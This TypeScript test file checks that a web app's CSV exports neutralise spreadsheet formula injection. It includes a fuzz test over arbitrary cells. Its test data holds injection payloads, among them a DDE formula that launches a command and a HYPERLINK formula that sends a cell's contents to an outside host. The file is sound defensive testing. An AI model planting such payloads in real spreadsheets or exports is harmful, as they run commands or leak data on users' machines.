import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { csvLine } from '../../../server/platform/files/csv-line.ts'
import { forSpreadsheet, spreadsheetCell } from '../../../server/platform/files/spreadsheet-csv.ts'
import { person, signedIn, testApp } from '../../support/app.ts'
import { openCollection } from '../../support/collection.ts'
import { freshDatabases } from '../../support/database.ts'
import { answerForm, versionOn } from '../../support/forms.ts'

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elsewhere.example?"&A1,"more")',
  '+1+cmd',
  '-2+3',
  '@SUM(1,2)',
  '＝1+1',
  '=1,"x"\n=2',
]

const opens = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)

describe('a text that a spreadsheet takes for a formula', async () => {
  const databases = await freshDatabases()
  const app = testApp(databases)
  const { responseIds } = await openCollection(databases, [{ code: 'RAA', settings: ['acute'] }])
  const own = `/responses/${responseIds.get('RAA')}`
  const lead = await person(databases, 'Lena', [{ role: 'lead_respondent', scope: 'RAA' }])
  await databases.writer('people').where({ email: lead }).update({ name: formulas[1] })
  const lena = await signedIn(app, lead)
  const amir = await signedIn(app, await person(databases, 'Amir', [{ role: 'approver', scope: 'RAA' }]))
  const alice = await signedIn(app, await person(databases, 'Alice', [{ role: 'administrator', scope: '' }]))
  const comment = formulas[2] ?? ''
  await databases.writer('participants').update({ name: formulas[3] })
  const answers = answerForm({ 'sharing.out.gp': 'agree', 'sharing.comment': comment })
  await lena.post(`${own}/sections/sharing/acute`).type('form').send(answers).expect(303)
  await lena.post(`${own}/send`).type('form').send({}).expect(303)
  const version = await versionOn(amir, `${own}/review`)
  await amir.post(`${own}/signature`).type('form').send({ declared: 'yes', version }).expect(303)
  const rowsOf = (text: string) => parse(text, { bom: true })

  it('is shown and not computed in the copy that an organisation takes', async () => {
    const { text } = await lena.get(`${own}/copy.csv`).buffer().expect(200)
    const cells = rowsOf(text).flat()
    assert.deepEqual(cells.filter(opens), [])
    assert.ok(cells.includes(`'${comment}`))
  })

  it('is shown and not computed in the audit that the programme team takes', async () => {
    const { text } = await alice.get('/programme/audit.csv').buffer().expect(200)
    const cells = rowsOf(text).flat()
    assert.deepEqual(cells.filter(opens), [])
    assert.ok(cells.includes(`'${formulas[1]}`))
  })

  for (const file of ['answers', 'responses', 'partners', 'participants', 'items', 'codes'])
    it(`is as it was written in ${file}.csv, and neither cell nor column of ${file} for a spreadsheet begins one`, async () => {
      const [raw, made] = await Promise.all(
        ['', '?for=excel'].map((query) =>
          alice.get(`/collections/2026/files/${file}.csv${query}`).buffer().expect(200),
        ),
      )
      assert.ok(raw && made)
      assert.match(String(made.headers['content-disposition']), /2026-\w+-for-excel\.csv/)
      assert.ok(made.text.startsWith('\uFEFF') && !raw.text.startsWith('\uFEFF'))
      const [rawRows, madeRows] = [rowsOf(raw.text), rowsOf(made.text)]
      assert.deepEqual(madeRows.flat().filter(opens), [])
      assert.deepEqual(
        madeRows,
        rawRows.map((row) => row.map((cell) => spreadsheetCell(cell))),
      )
      if (file === 'answers') assert.ok(rawRows.flat().includes(comment) && madeRows.flat().includes(`'${comment}`))
      if (file === 'participants') assert.ok(madeRows.flat().includes(`'${formulas[3]}`))
    })

  it('begins no cell, and nothing else is changed, whatever is written', async () => {
    const cell = fc.oneof(
      fc.constantFrom(...formulas, '-5', '+5.25', '-', '"', "'=1", ',', '\r\n', ' =1', ''),
      fc.string({ unit: 'grapheme' }),
      fc.integer(),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1 }), async (rows) => {
        let text = ''
        for await (const part of forSpreadsheet(rows.map(csvLine))) text += part
        const read = parse(text, { bom: true, relax_column_count: true })
        assert.deepEqual(read.flat().filter(opens), [])
        const expected = rows.map((row) => row.map((one) => spreadsheetCell(String(one))))
        assert.deepEqual(read, expected)
      }),
      { numRuns: 500 },
    )
  })
})
